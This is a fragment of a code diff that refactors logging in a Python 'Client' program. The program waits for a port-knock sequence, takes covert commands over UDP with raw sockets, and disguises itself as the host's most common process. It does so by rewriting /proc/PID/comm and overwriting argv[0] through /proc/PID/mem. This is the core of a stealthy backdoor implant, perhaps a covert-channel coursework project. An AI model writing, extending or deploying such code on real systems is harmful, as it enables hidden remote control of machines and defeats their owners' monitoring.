+        log.info("Knock sequence: %s", self.knock_sequence)
+        log.info("Knock timeout:  %ss", self.knock_timeout)
+        log.info("Command port:   UDP %s", self.command_port)
+
+        os.makedirs(os.path.join(os.getcwd(), DELTA_DIR), exist_ok=True)
 
-        os.makedirs(os.path.join(os.getcwd(), TMP_DIR), exist_ok=True)
+        # Paced transmitter shared by every source's responses
+        self.transmitter.start()
 
         # Start a knock-listener thread for each port
         for port in self.knock_ports:
@@ -652,8 +812,12 @@ class Client:
         try:
             self.listen_for_covert_commands()
         except KeyboardInterrupt:
-            print("\nShutting down client...")
+            log.info("Shutting down client...")
             self.running = False
+        finally:
+            self.transmitter.stop()
+            # Remove .part files of transfers cut short by the shutdown
+            self.transfers.clear()
 
 
 def get_process_names():
@@ -678,7 +842,7 @@ def most_common_process():
         return None
     counter = Counter(names)
     name, count = counter.most_common(1)[0]
-    print(f"Most common process: {name} ({count} instances)")
+    log.info("Most common process: %s (%s instances)", name, count)
     return name
 
 
@@ -688,7 +852,7 @@ def conceal_process_name(name):
         with open(f"/proc/{os.getpid()}/comm", "w") as f:
             f.write(name[:15])
     except OSError as e:
-        print(f"Could not set comm: {e}")
+        log.error("Could not set comm: %s", e)
 
     # Overwrite /proc/PID/cmdline (shown by ps -aux, ps -ef)
     try:
@@ -735,25 +899,35 @@ def conceal_process_name(name):
                 mem.seek(cmdline_addr)
                 mem.write(replacement)
         else:
-            print("Could not locate argv[0] in stack — cmdline not overwritten")
+            log.error("Could not locate argv[0] in stack — cmdline not overwritten")
 
     except OSError as e:
-        print(f"Could not overwrite cmdline: {e}")
+        log.error("Could not overwrite cmdline: %s", e)
 
 
 def main():
-    print("Client Program")
-    print("Requires root/admin privileges for raw sockets")
-    print()
+    args = sys.argv[1:]
+    level = logging.INFO
+    if '--log-level' in args:
+        i = args.index('--log-level')
+        level = parse_level(args[i + 1]) if i + 1 < len(args) else None
+        if level is None:
+            print("--log-level must be one of: DEBUG, INFO, WARNING, ERROR")
+            sys.exit(1)
+        del args[i:i + 2]
+    setup_logging("client", level)
+
+    log.info("Client Program")
+    log.info("Requires root/admin privileges for raw sockets")
     name = most_common_process()
     if name:
         conceal_process_name(name)
     # Parse optional knock sequence from cmdline args
-    if len(sys.argv) >= 4:
+    if len(args) >= 3:
         try:
-            knock_sequence = [int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])]
+            knock_sequence = [int(args[0]), int(args[1]), int(args[2])]
         except ValueError:
-            print("Knock ports must be integers")
+            log.error("Knock ports must be integers")
             sys.exit(1)
     else:
         knock_sequence = KNOCK_SEQUENCE  # default [7000, 8000, 9000]